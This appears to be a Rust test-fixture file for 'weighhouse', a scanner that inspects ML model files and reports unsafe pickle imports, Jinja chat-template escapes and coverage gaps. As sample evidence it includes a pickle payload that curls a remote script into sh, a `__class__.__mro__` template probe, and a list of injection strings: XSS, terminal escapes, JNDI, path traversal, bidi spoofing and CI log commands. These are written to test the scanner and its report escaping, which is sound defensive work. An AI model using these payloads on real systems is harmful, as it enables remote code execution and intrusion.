//! Inspections made by hand: a clean one, a bad one, a hostile one, a large one, and one without a policy.

use weighhouse_core::diagnostic::{Level, SourceText};
use weighhouse_core::digest::Digest;
use weighhouse_core::finding::WaivedBy;
use weighhouse_core::waiver::WaiverUse;
use weighhouse_core::{
    Advice, Answer, Artifact, Assessment, Behaviour, Confidence, CoverageGap, Date, Decision, Diagnostic,
    FactValue, FileCoverage, FileRecord, Finding, Fingerprint, Inspection, LoadEffect, Loading, Location,
    Outcome, Reason, RuleMeta, RuleStatus, Severity, TextPosition, Thread, Tool, Waiver,
};
use weighhouse_report::{Basis, Report};

pub(crate) static IMPORT: RuleMeta = RuleMeta {
    id: "WH-PKL-001",
    slug: "unsafe-import",
    since: "0.1.0",
    status: RuleStatus::Stable,
    severity: Severity::Critical,
    confidence: Confidence::High,
    formats: &["pickle", "torch-zip"],
    cwe: &[502, 94],
    owasp: &["LLM03"],
    atlas: &["AML.T0010"],
    docs: "A pickle imports a function that can run code, such as `os.system`.

# What it detects

Globals in a pickle stream that are known to run commands, open connections or load code, by `GLOBAL`,
`STACK_GLOBAL`, `INST` or the extension registry.

# Why it matters

Loading a pickle calls whatever it names: with such an import, `torch.load` or `joblib.load` runs the author's
commands on your machine. No user action beyond loading is needed.

# Example

```text
GLOBAL 'os system'
```

# What to do

Do not load the file. Ask the publisher for a safetensors version, or convert a trusted copy:

- `weighhouse convert model.pkl`
- train again from the published code

# References

- <https://docs.python.org/3/library/pickle.html>
- <https://cwe.mitre.org/data/definitions/502.html>
",
};

pub(crate) static TEMPLATE: RuleMeta = RuleMeta {
    id: "WH-TPL-002",
    slug: "template-escape",
    severity: Severity::High,
    formats: &[],
    cwe: &[1336],
    atlas: &[],
    docs: "A chat template reaches for Python internals.

# What it detects

Attribute access such as `__class__` in a Jinja chat template.

# Why it matters

Chat templates are programs that run at every request; one that reaches for `__class__.__mro__` tries to leave its sandbox.

# Example

```jinja
{{ ''.__class__ }}
```

# What to do

Remove the template or take it from the original model.

# References

- <https://jinja.palletsprojects.com/en/stable/sandbox/>
",
    ..IMPORT
};

pub(crate) static UNKNOWN: RuleMeta = RuleMeta {
    id: "WH-PKL-004",
    slug: "unknown-import",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    docs: "A pickle imports something nobody has judged yet.\n\n# What it detects\n\nGlobals on no list.\n\n# Why it matters\n\nWhat is not known to be harmless may run code when the file is loaded.\n\n# Example\n\n```text\nGLOBAL 'my_lab.layers Fancy'\n```\n\n# What to do\n\nRead the class, then waive or refuse.\n\n# References\n\n- <https://docs.python.org/3/library/pickle.html>\n",
    ..IMPORT
};

pub(crate) static COVERAGE: RuleMeta = RuleMeta {
    id: "WH-INP-001",
    slug: "not-inspected",
    severity: Severity::Medium,
    docs: "Something was not looked at.\n\n# What it detects\n\nCoverage gaps.\n\n# Why it matters\n\nWhat was not inspected may hold anything.\n\n# Example\n\n```text\nencrypted.zip\n```\n\n# What to do\n\nUnpack it, or raise the limit.\n\n# References\n\n- <https://cwe.mitre.org/data/definitions/409.html>\n",
    ..IMPORT
};

pub(crate) static NOTE: RuleMeta = RuleMeta {
    id: "WH-COD-009",
    slug: "remote-code",
    status: RuleStatus::Preview,
    severity: Severity::Info,
    confidence: Confidence::Low,
    cwe: &[],
    owasp: &[],
    atlas: &[],
    docs: "The repository ships code of its own.\n\n# What it detects\n\n`auto_map` in `config.json`.\n\n# Why it matters\n\nIt only runs with `trust_remote_code=True`.\n\n# Example\n\n```json\n{\"auto_map\": {}}\n```\n\n# What to do\n\nPin the revision.\n\n# References\n\n- <https://huggingface.co/docs/transformers/custom_models>\n",
    ..IMPORT
};

pub(crate) static RULES: &[&RuleMeta] = &[&NOTE, &COVERAGE, &IMPORT, &UNKNOWN, &TEMPLATE];

/// A report with everything it borrows.
pub(crate) struct Fixture {
    pub(crate) inspection: Inspection,
    pub(crate) decision: Option<Decision>,
    pub(crate) threshold: Option<Severity>,
    pub(crate) waivers: Vec<(Waiver, WaiverUse)>,
    pub(crate) diagnostics: Vec<Diagnostic>,
    pub(crate) rules: &'static [&'static RuleMeta],
}

impl Fixture {
    pub(crate) fn report(&self) -> Report<'_> {
        Report {
            inspection: &self.inspection,
            basis: self.decision.as_ref().map_or(Basis::Threshold(self.threshold), Basis::Decision),
            rules: self.rules,
            waivers: &self.waivers,
            diagnostics: &self.diagnostics,
            date: Date::new(2026, 3, 14),
        }
    }
}

pub(crate) fn all() -> Vec<(&'static str, Fixture)> {
    vec![
        ("empty", empty()),
        ("clean", clean()),
        ("poisoned", poisoned()),
        ("scan", scan()),
        ("partial", partial()),
        ("hostile", hostile()),
        ("large", large(2_000)),
    ]
}

fn file(path: &str, bytes: u64, format: &'static str) -> FileRecord {
    FileRecord {
        path: path.to_owned(),
        sha256: Some(Digest::of(path.as_bytes())),
        bytes,
        format,
        coverage: FileCoverage::Full,
    }
}

pub(crate) fn finding(
    rule: &'static RuleMeta,
    location: Location,
    headline: &str,
    evidence: Option<&str>,
) -> Finding {
    Finding {
        rule,
        severity: rule.severity,
        confidence: rule.confidence,
        headline: headline.to_owned(),
        fingerprint: Fingerprint::new(rule.id, &location, evidence),
        location,
        evidence: evidence.map(str::to_owned),
        remediation: "do not load this file; ask the publisher for safetensors weights".to_owned(),
        waived: None,
    }
}

fn inspection(
    name: &str,
    files: Vec<FileRecord>,
    findings: Vec<Finding>,
    gaps: Vec<CoverageGap>,
) -> Inspection {
    let mut inspection = Inspection {
        tool: Tool { name: "weighhouse", version: "0.1.0", ruleset: Digest::of(b"rules") },
        artifact: Artifact {
            name: name.to_owned(),
            digest: Some(Digest::of(name.as_bytes())),
            files: files.len() as u64,
            bytes: files.iter().map(|file| file.bytes).sum(),
        },
        files,
        findings,
        gaps,
        advice: Vec::new(),
        loading: Vec::new(),
        assessments: Vec::new(),
        reused: 0,
    };
    inspection.normalise();
    inspection
}

/// One question that is answered and one that is not.
fn assessments(text: &str) -> Vec<Assessment> {
    let mut answered = Assessment::new(Thread::Licence, format!("`{text}` may be used"));
    answered.as_of = Date::new(2026, 11, 20);
    answered.data = Some(Digest::of(b"data"));
    answered.answers.push(Answer {
        text: text.to_owned(),
        basis: weighhouse_core::Basis::Declared,
        location: Some(Location::file(text)),
    });
    let words = FactValue::Words([text.to_owned()].into());
    answered.facts = [("licence_use", FactValue::Text(text.to_owned())), ("licences", words)].into();
    vec![answered, Assessment::not_assessed(Thread::Health, text)]
}

/// How two versions of one loader treat a file.
pub(crate) fn loading(file: &str) -> Vec<Loading> {
    let behaviour = |versions, effect, what, advisories| Behaviour {
        loader: "torch",
        versions,
        call: "torch.load",
        effect,
        what,
        advisories,
        source: "https://example.com/loading",
    };
    let behaviours = [
        behaviour("< 2.6", LoadEffect::Runs, "weights_only is off unless asked for", "CVE-2025-32434"),
        behaviour(">= 2.6", LoadEffect::Refuses, "only listed names are loaded", ""),
    ];
    behaviours.map(|behaviour| Loading { location: Location::file(file), behaviour }).to_vec()
}

fn decision(outcome: Outcome, reasons: Vec<Reason>) -> Decision {
    Decision {
        outcome,
        profile: "production".to_owned(),
        policy: Digest::of(b"policy"),
        facts: Digest::of(b"facts"),
        reasons,
    }
}

fn reason(policy: &str, outcome: Outcome, message: &str, findings: &[&Finding]) -> Reason {
    Reason {
        policy: policy.to_owned(),
        outcome,
        message: message.to_owned(),
        findings: findings.iter().map(|finding| finding.fingerprint).collect(),
    }
}

fn fixture(inspection: Inspection, decision: Option<Decision>) -> Fixture {
    Fixture { inspection, decision, threshold: None, waivers: vec![], diagnostics: vec![], rules: RULES }
}

fn empty() -> Fixture {
    let mut inspection = inspection("./empty", vec![], vec![], vec![]);
    inspection.artifact.digest = None;
    fixture(inspection, Some(decision(Outcome::Allow, vec![])))
}

pub(crate) fn clean() -> Fixture {
    let files = vec![
        file("config.json", 612, "json"),
        file("model.safetensors", 90_868_376, "safetensors"),
        file("tokenizer.json", 466_247, "json"),
        file("tokenizer_config.json", 350, "json"),
    ];
    let message = "nothing forbids this model";
    let reasons = vec![reason("permit-clean", Outcome::Allow, message, &[])];
    fixture(inspection("./all-minilm-l6-v2", files, vec![], vec![]), Some(decision(Outcome::Allow, reasons)))
}

fn member(file: &str, members: &[&str]) -> Location {
    Location {
        file: file.to_owned(),
        members: members.iter().map(|member| (*member).to_owned()).collect(),
        ..Location::default()
    }
}

fn poisoned_findings() -> Vec<Finding> {
    let mut system = member("pytorch_model.bin", &["archive/data.pkl"]).at(1024..1060);
    system.key = Some("os.system".to_owned());
    let mut import = finding(
        &IMPORT,
        system,
        "pickle calls `os.system` when it is loaded",
        Some("os.system('curl -s http://198.51.100.7/x | sh')"),
    );
    import.remediation =
        "do not load this file; ask the publisher for safetensors weights, or train again from \
                          published code"
            .to_owned();
    let mut template = Location::file("tokenizer_config.json");
    template.text = Some(TextPosition { line: 12, column: 34 });
    template.key = Some("chat_template".to_owned());
    let mut findings = vec![
        import,
        finding(&TEMPLATE, template, "chat template reaches `__class__`", Some("{{ ''.__class__.__mro__ }}")),
        finding(&NOTE, Location::file("config.json"), "`auto_map` names `modeling_x.py`", None),
    ];
    for number in 0..9_u64 {
        let mut place =
            member("pytorch_model.bin", &["archive/data.pkl"]).at(2048 + number * 64..2060 + number * 64);
        place.key = Some(format!("my_lab.layers.Fancy{number}"));
        let headline = format!("pickle imports `my_lab.layers.Fancy{number}`, which is on no list");
        findings.push(finding(&UNKNOWN, place, &headline, None));
    }
    let mut waived =
        finding(&TEMPLATE, Location::file("chat_template.jinja"), "template uses `cycler`", None);
    waived.waived = Some(WaivedBy {
        owner: "ml-platform@example.com".to_owned(),
        reason: "read line by line, harmless".to_owned(),
        expires: Date::new(2026, 6, 30).unwrap(),
    });
    findings.push(waived);
    findings
}

fn gap(location: Location, reason: &'static str, detail: &str, waived: bool) -> CoverageGap {
    CoverageGap { location, reason, detail: detail.to_owned(), waived }
}

fn waiver(rule: &str, owner: &str, expires: Date, state: WaiverUse) -> (Waiver, WaiverUse) {
    let waiver = Waiver {
        rules: vec![rule.to_owned()],
        path: Some("**/*.jinja".to_owned()),
        digest: Some(Digest::of(b"bound")),
        owner: owner.to_owned(),
        reason: "read line by line, harmless".to_owned(),
        expires,
    };
    (waiver, state)
}

pub(crate) fn poisoned() -> Fixture {
    let findings = poisoned_findings();
    let unknown: Vec<_> = findings.iter().filter(|finding| finding.rule.id == UNKNOWN.id).collect();
    let reasons = vec![
        reason("deny-code", Outcome::Deny, "The model runs code when it is loaded.", &[&findings[0]]),
        reason(
            "deny-template",
            Outcome::Deny,
            "The chat template tries to leave its sandbox.",
            &[&findings[1]],
        ),
        reason(
            "review-unknown",
            Outcome::NeedsApproval,
            "Someone must judge imports that are on no list.",
            &unknown,
        ),
        reason("review-coverage", Outcome::NeedsApproval, "Parts of the model could not be inspected.", &[]),
    ];
    let mut partial = file("extra.zip", 40_960, "zip");
    partial.coverage = FileCoverage::Partial;
    let files = vec![
        file("pytorch_model.bin", 4_404_019, "torch-zip"),
        file("tokenizer_config.json", 2_211, "json"),
        file("config.json", 612, "json"),
        file("chat_template.jinja", 4_100, "jinja"),
        partial,
    ];
    let gaps = vec![
        gap(member("extra.zip", &["inner/secret.bin"]), "encrypted", "the member is encrypted", false),
        gap(member("extra.zip", &["video.mp4"]), "unknown-format", "no parser knows this format", true),
    ];
    let mut inspection = inspection("./poisoned-classifier", files, findings, gaps);
    inspection.advice.push(Advice {
        location: Location::file("optimizer.pt"),
        headline: "this pickle holds only tensors; convert it to safetensors".to_owned(),
        command: Some("weighhouse convert optimizer.pt --output optimizer.safetensors".to_owned()),
    });
    inspection.loading = loading("pytorch_model.bin");
    inspection.assessments = assessments("config.json");
    let mut poisoned = fixture(inspection, Some(decision(Outcome::Deny, reasons)));
    let june = Date::new(2026, 6, 30).unwrap();
    poisoned.waivers = vec![
        waiver("template-escape", "ml-platform@example.com", june, WaiverUse::Used(1)),
        waiver("WH-NET-001", "security@example.com", june, WaiverUse::Unused),
        waiver("unknown-import", "lab@example.com", Date::new(2026, 1, 31).unwrap(), WaiverUse::Expired),
    ];
    let source =
        SourceText { name: "weighhouse.toml".to_owned(), text: "[a]\n\nrule = \"WH-NET-001\"\n".into() };
    poisoned.diagnostics = vec![
        Diagnostic::new(Level::Warning, "WH-CFG-007", "waiver for `WH-NET-001` matches nothing")
            .at(&source, 5..9, "")
            .help("remove it"),
    ];
    poisoned
}

/// `weighhouse scan`: no policy, a threshold.
fn scan() -> Fixture {
    let mut scan = poisoned();
    scan.decision = None;
    scan.threshold = Some(Severity::High);
    scan
}

/// Nothing found, but not everything looked at.
fn partial() -> Fixture {
    let mut unreadable = file("model.bin", 0, "unknown");
    unreadable.coverage = FileCoverage::None;
    unreadable.sha256 = None;
    let gaps = vec![gap(Location::file("model.bin"), "unreadable", "permission denied", false)];
    let mut inspection = inspection("./locked", vec![unreadable], vec![], gaps);
    inspection.artifact.digest = None;
    let message = "Parts of the model could not be inspected.";
    let reasons = vec![reason("review-coverage", Outcome::NeedsApproval, message, &[])];
    fixture(inspection, Some(decision(Outcome::NeedsApproval, reasons)))
}

/// Texts that try to leave their place in some format.
pub(crate) const HOSTILE: &[&str] = &[
    "\x1b[2J\x1b]0;owned\x07 \u{9b}31m",
    "]]> <![CDATA[ --> <!-- <script>alert(1)</script> &amp; \" ' </testsuite>",
    "nul \0 bell \u{7} del \u{7f} noncharacter \u{ffff} \u{fffe}",
    "bidi \u{202e}gpj.exe\u{202c} zero\u{200b}width tag\u{e0041}",
    "` `` [click](javascript:alert(1)) | cell | ![i](http://evil.example/x.png) @all #1 <details> www.evil.example",
    "line\nbreak\r\n\r\n# heading\n\n</details>\n| a | b |\n|---|---|\n```\nfence",
    "non-utf8-\\xff\\xfe/../../etc/passwd%2e%2e?x#y:z",
    "\u{feff}</style><img src=x onerror=alert(1)> ${jndi} {{7*7}} ::error::x ##vso[task.logissue]",
];

pub(crate) fn hostile() -> Fixture {
    let mut findings = Vec::new();
    let mut files = Vec::new();
    let mut gaps = Vec::new();
    for (at, text) in HOSTILE.iter().enumerate() {
        let rule = RULES[at % RULES.len()];
        let mut place = member(text, &[text, text]);
        place.key = Some((*text).to_owned());
        place.bytes = Some((u64::MAX - 1, u64::MAX));
        findings.push(finding(rule, place.clone(), text, Some(text)));
        findings.last_mut().unwrap().remediation = (*text).to_owned();
        files.push(file(text, u64::MAX / 16, "unknown"));
        gaps.push(gap(place, "encrypted", text, false));
    }
    let huge = format!("{}\u{1b}[31m{}", "A".repeat(1 << 20), "]]>");
    findings.push(finding(&IMPORT, Location::file(HOSTILE[0]), "huge evidence", Some(&huge)));
    let waived = findings.first_mut().unwrap();
    waived.waived = Some(WaivedBy {
        owner: HOSTILE[1].to_owned(),
        reason: HOSTILE[4].to_owned(),
        expires: Date::new(2026, 6, 30).unwrap(),
    });
    let reasons =
        HOSTILE.iter().map(|text| reason(text, Outcome::Deny, text, &findings.iter().collect::<Vec<_>>()));
    let mut decision = decision(Outcome::Deny, reasons.collect());
    decision.profile = HOSTILE[5].to_owned();
    let mut inspection = inspection(HOSTILE[4], files, findings, gaps);
    inspection.advice = HOSTILE
        .iter()
        .map(|text| Advice {
            location: Location::file(*text),
            headline: (*text).to_owned(),
            command: Some((*text).to_owned()),
        })
        .collect();
    inspection.loading = HOSTILE.iter().flat_map(|text| loading(text)).collect();
    inspection.assessments = HOSTILE.iter().flat_map(|text| assessments(text)).collect();
    let mut hostile = fixture(inspection, Some(decision));
    let state = WaiverUse::Used(1);
    hostile.waivers = vec![waiver(HOSTILE[1], HOSTILE[4], Date::new(2026, 6, 30).unwrap(), state)];
    hostile.diagnostics = vec![Diagnostic::new(Level::Error, "WH-CFG-001", HOSTILE[0]).help(HOSTILE[1])];
    hostile
}

/// Many findings in many files.
pub(crate) fn large(count: u64) -> Fixture {
    let mut findings = Vec::new();
    let mut files = Vec::new();
    for number in 0..count {
        let path = format!("shards/model-{:05}.bin", number / 4);
        if number % 4 == 0 {
            files.push(file(&path, 1 << 20, "pickle"));
        }
        let rule = RULES[usize::try_from(number).unwrap() % RULES.len()];
        let headline = format!("finding number {number}");
        findings.push(finding(
            rule,
            Location::file(path).at(number..number + 1),
            &headline,
            Some("evidence"),
        ));
        findings.last_mut().unwrap().fingerprint =
            Fingerprint::new(rule.id, &Location::file(number.to_string()), None);
    }
    fixture(inspection("./large", files, findings, vec![]), Some(decision(Outcome::Deny, vec![])))
}
